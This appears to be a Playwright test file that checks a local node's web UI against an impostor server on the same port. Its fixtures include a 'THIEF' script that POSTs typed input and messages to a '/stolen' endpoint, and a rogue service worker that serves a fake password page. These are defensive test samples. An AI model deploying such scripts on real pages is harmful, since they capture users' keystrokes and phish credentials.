import type { Page } from '@playwright/test';
import { proofKeys } from '../../src/shared/owner-api/proof.ts';
import { removeFolder, temporaryFolder } from '../../test/support/node-process.ts';
import { type Answering, Impostor } from '../support/impostor.ts';
import { giveKeystore, locked, openKeys, PASSPHRASE, typePassphrase, unlocked } from '../support/keys.ts';
import { OwnerNode } from '../support/owner-node.ts';
import { expect, openOwner, test } from '../support/owner-test.ts';

let dataDir: string;
let node: OwnerNode;
let port: string;
let impostor: Impostor | null = null;
test.beforeEach(async () => {
  dataDir = temporaryFolder();
  node = await OwnerNode.start({ dataDir });
  port = new URL(node.url('local')).port;
  await giveKeystore(node);
});
test.afterEach(async () => {
  await impostor?.close();
  impostor = null;
  await node.dispose();
  removeFolder(dataDir);
});

async function restart(): Promise<void> {
  await impostor?.close();
  impostor = null;
  node = await OwnerNode.start({ dataDir, env: { LOCAL_PORT: port } });
}

async function replaceNode(answering: Answering): Promise<Impostor> {
  await node.stop();
  impostor = await Impostor.start(Number(port), answering);
  return impostor;
}

/** Whether a text has anything by which one could get at the node, or the passphrase. */
function leaks(text: string): string[] {
  const { node: ofNode, page } = proofKeys(node.token);
  const secrets = [node.token, Buffer.from(ofNode).toString('hex'), Buffer.from(page).toString('hex'), PASSPHRASE];
  return secrets.filter((secret) => text.includes(secret));
}

const json = (body: unknown): Answering => {
  return (_request, response) => {
    response.setHeader('content-type', 'application/json');
    response.end(JSON.stringify(body));
    return true;
  };
};

/** A script that tells that it ran, and what is typed from then on. */
const THIEF = `globalThis.isStolen = true;
export default function Page() { return null; }
addEventListener('input', (event) => fetch('/stolen', { method: 'POST', body: event.target.value }));
addEventListener('message', (event) => fetch('/stolen', { method: 'POST', body: JSON.stringify(event.data) }));`;

/** Answers every script with the thief, and nothing else. */
const thief: Answering = ({ url = '' }, response) => {
  if (!url.includes('.js')) return false;
  response.setHeader('content-type', 'text/javascript');
  response.end(THIEF);
  return true;
};

test('an open page sends neither token nor passphrase to a program without a proof, and runs none of its code', async ({
  page,
  watch,
}) => {
  watch.end();
  await openKeys(page, node);
  await locked(page);
  const found = await replaceNode(thief);
  await expect(page.getByText('Connection lost')).toBeVisible();
  await typePassphrase(page);
  await expect(page.getByRole('main').getByRole('alert')).toBeVisible();
  await expect.poll(() => found.heard).toContain('POST /ui/api/prove');
  // A page of the view that was not loaded before.
  await page.evaluate(() => {
    window.location.hash = '#/settings';
  });
  await expect.poll(() => found.heard).toMatch(/GET \/ui\/assets\/settings-page[^ ]*\.js/);
  await expect(page.getByText('Connection lost')).toBeVisible();
  expect(await page.evaluate(() => 'isStolen' in globalThis)).toBe(false);
  expect(found.heard).not.toContain('keys-worker');
  expect(found.heard).not.toContain('/stolen');
  expect(leaks(found.heard)).toEqual([]);
  // The settings page is still missing, so the page loads itself again once the node is back.
  const reloaded = page.waitForEvent('load');
  await restart();
  await reloaded;
  await expect(page.getByText('Live', { exact: true })).toBeVisible();
  await openKeys(page, node);
  await typePassphrase(page);
  await unlocked(page);
});

test('a program with a false proof gets nothing, and the page says so', async ({ page, watch }) => {
  watch.end();
  await openOwner(page, node);
  const found = await replaceNode(json({ ok: true, value: { server: '0'.repeat(64), proof: '1'.repeat(64) } }));
  await expect(page.getByRole('heading', { name: 'This link no longer works' })).toBeVisible();
  await expect(page.getByText('another program answers at this address')).toBeVisible();
  expect(leaks(found.heard)).toEqual([]);
  expect(found.heard).not.toContain('Bearer');
  expect(found.heard).not.toContain('said: ');
  await restart();
  await page.reload();
  await expect(page.getByText('Live', { exact: true })).toBeVisible();
});

test('that program’s page finds no token in the browser, and no readable key', async ({ page, watch }) => {
  watch.end();
  await openOwner(page, node);
  await replaceNode((_request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end('<!doctype html><title>Mine now</title>');
    return true;
  });
  await page.reload();
  await expect(page).toHaveTitle('Mine now');
  const kept = await page.evaluate(async () => {
    const opening = indexedDB.open('wellhouse');
    const database = await new Promise<IDBDatabase>((resolve) => {
      opening.onsuccess = () => resolve(opening.result);
    });
    const reading = database.transaction('session').objectStore('session').get('kept');
    const keys = await new Promise<{ node: CryptoKey; page: CryptoKey }>((resolve) => {
      reading.onsuccess = () => resolve(reading.result);
    });
    const exported = await Promise.allSettled([keys.node, keys.page].map((key) => crypto.subtle.exportKey('raw', key)));
    return {
      texts: JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]),
      usages: [keys.node.usages, keys.page.usages],
      exported: exported.map(({ status }) => status),
    };
  });
  expect(leaks(kept.texts)).toEqual([]);
  expect(kept.usages).toEqual([['verify'], ['sign']]);
  expect(kept.exported).toEqual(['rejected', 'rejected']);
});

async function registrations(page: Page): Promise<unknown> {
  return page.evaluate(async () => [(await navigator.serviceWorker.getRegistrations()).length, await caches.keys()]);
}

test('a service worker of that program is removed when the node answers again', async ({ page, watch }) => {
  watch.end();
  const scripts: Record<string, string> = {
    '/sw.js': `addEventListener('install', (event) => event.waitUntil(skipWaiting()));
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  if (event.request.mode !== 'navigate') return;
  const html = '<!doctype html><title>Still mine</title><input type=password>';
  event.respondWith(new Response(html, { headers: { 'content-type': 'text/html' } }));
});`,
  };
  await replaceNode(({ url = '' }, response) => {
    const script = scripts[url];
    response.setHeader('content-type', script === undefined ? 'text/html' : 'text/javascript');
    response.end(script ?? '<!doctype html><title>Mine now</title>');
    return true;
  });
  await page.goto(`http://127.0.0.1:${port}/ui/`);
  await page.evaluate(async () => {
    await navigator.serviceWorker.register('/sw.js', { scope: '/' });
    await navigator.serviceWorker.ready;
    await (await caches.open('mine')).put('/ui/', new Response('mine'));
  });
  await restart();
  await page.goto('about:blank');
  await page.goto(node.link);
  await expect(page.getByText('Live', { exact: true })).toBeVisible();
  await expect.poll(() => registrations(page)).toEqual([0, []]);
  await page.reload();
  await expect(page.getByText('Live', { exact: true })).toBeVisible();
});
